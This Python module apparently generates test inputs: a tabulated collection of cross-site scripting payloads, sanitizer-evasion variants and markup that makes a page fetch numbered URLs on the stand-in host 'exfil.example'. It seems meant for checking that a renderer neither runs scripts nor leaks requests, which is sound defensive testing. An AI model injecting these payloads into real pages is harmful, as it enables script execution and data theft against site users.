"""Texts that would run a script or call another machine if the page took them for markup, made from a table."""

from __future__ import annotations

JS = "window.__owned=1"
"""What each script would do; the page's fixture and `test_payloads` look for it."""
HOST = "exfil.example"
"""Whom each leak would call."""

# Elements that run a script by themselves: the tag with what sets it off.
_ELEMENTS = (
    "script", "SCRIPT", "script x", "script/x", "script type=module", "scr\x00ipt",
)  # fmt: skip
_HANDLERS = (
    "img src=x onerror", "IMG SRC=x oNeRrOr", "img/src=x/onerror", "img src=x\tonerror", "img src=x\nonerror",
    "svg onload", "svg/onload", "body onload", "body onpageshow", "input autofocus onfocus",
    "select autofocus onfocus", "textarea autofocus onfocus", "details open ontoggle", "video src=x onerror",
    "audio src=x onerror", "object data=x onerror", "marquee onstart", "iframe onload", "style onload",
    "link rel=stylesheet href=x onerror", "div style='animation:x 1s' onanimationstart",
    "p contenteditable autofocus onfocus", "a id=x tabindex=1 autofocus onfocus", "math onclick",
    "button autofocus onfocus", "dialog open onclose", "form onsubmit", "x onpointerover", "x onmouseover",
)  # fmt: skip
_SCRIPT_FORMS = (
    '"><script>{js}</script>', "'><script>{js}</script>", '" onmouseover="{js}" x="', "' onfocus='{js}' autofocus='",
    '" autofocus onfocus="{js}', "` onerror=`{js}", "</p></div></section><script>{js}</script>",
    "</title><script>{js}</script>", "</textarea><script>{js}</script>", "</option></select><svg onload={js}>",
    "</mark><script>{js}</script><mark>", "<scr<script>ipt>{js}</scr</script>ipt>", "<<script>{js}//<</script>",
    "<img src='a' alt='<script>{js}</script>", "<!--><script>{js}</script>-->", "<![CDATA[<script>{js}</script>]]>",
    "<svg><script>{js}</script></svg>", "<svg><a xlink:href='javascript:{js}'><text>x</text></a></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s></svg>", "<svg><set onbegin={js} attributeName=x></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror={js}></style></mglyph></table></mtext></math>",
    "<template><script>{js}</script></template>", "<noscript><p title='</noscript><img src=x onerror={js}>'>",
    "<xmp><script>{js}</script></xmp>", "<plaintext><script>{js}</script>", "<a href='javascript:{js}'>x</a>",
    "<a href='java&#9;script:{js}'>x</a>", "<a href='\x01javascript:{js}'>x</a>", "[x](javascript:{js})",
    "[x](data:text/html,<script>{js}</script>)", "<iframe src='javascript:{js}'></iframe>",
    "<iframe srcdoc='<script>parent.{js}</script>'></iframe>", "<object data='data:text/html,<script>{js}</script>'>",
    "<embed src='data:image/svg+xml,<svg onload={js}>'>", "<form action='javascript:{js}'><button>x</button></form>",
    "<button formaction='javascript:{js}'>x</button>", "<meta http-equiv=refresh content='0;url=javascript:{js}'>",
    "&lt;script&gt;{js}&lt;/script&gt;", "&#60;img src=x onerror={js}&#62;", "&amp;lt;svg onload={js}&amp;gt;",
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e", "%3Cscript%3E{js}%3C/script%3E", "\ufeff<script>{js}</script>",
    "＜script＞{js}＜/script＞", "\u202e<script>{js}</script>", "<script\u2028>{js}</script>",
    "{{{{constructor.constructor('{js}')()}}}}", "{{{{{{this}}}}}}{{{{#with x}}}}{js}{{{{/with}}}}",
    "${{{js}}}", "${{''.constructor.constructor('{js}')()}}", "<%= {js} %>", "`;{js};`", "');{js};('", '\\");{js};//',
)  # fmt: skip
_LEAK_FORMS = (
    "![x]({url})", "![x][r]\n\n[r]: {url}", "[x]: {url}", "<{url}>", "<img src={url}>", "<img srcset='{url} 1x'>",
    "<picture><source srcset='{url}'><img></picture>", "<img src=x style='background:url({url})'>",
    "<div style='background-image:url({url})'>x</div>", "<style>@import url({url});</style>",
    "<style>*{{background:url({url})}}</style>", "</style><link rel=stylesheet href={url}>",
    "<link rel=preload as=image href={url}>", "<link rel=dns-prefetch href={url}>", "<link rel=icon href={url}>",
    "<meta http-equiv=refresh content='0;url={url}'>", "<base href={url}>", "<iframe src={url}></iframe>",
    "<object data={url}></object>", "<embed src={url}>", "<video poster={url}></video>", "<audio src={url}></audio>",
    "<video><track default src={url}></video>", "<svg><image href={url} /></svg>", "<svg><use href='{url}#x'/></svg>",
    "<svg><feImage href={url} /></svg>", "<table background={url}><tr><td>x</table>", "<body background={url}>",
    "<input type=image src={url}>", "<frameset><frame src={url}></frameset>", "<script src={url}></script>",
    "<a ping={url} href=#>x</a>", "<form action={url}><button data-citation=1>x</button></form>",
    '" style="background:url({url})" x="', "\"><img src='{url}", "<img src=\"{url}?q=",
    "<html manifest={url}>", "<applet code={url}>", "<!--[if IE]><img src={url}><![endif]-->",
)  # fmt: skip


def payloads() -> list[str]:
    """All of them, each once; the number in the address of a leak tells which one called."""
    elements = [f"<{element}>{JS}</{element.split()[0].split('/')[0]}>" for element in _ELEMENTS]
    handlers = [f"<{tag}={JS}>" for tag in _HANDLERS]
    scripts = [form.format(js=JS) for form in _SCRIPT_FORMS]
    leaks = [form.format(url=f"http://{HOST}/{number}") for number, form in enumerate(_LEAK_FORMS)]
    return [*elements, *handlers, *scripts, *leaks]
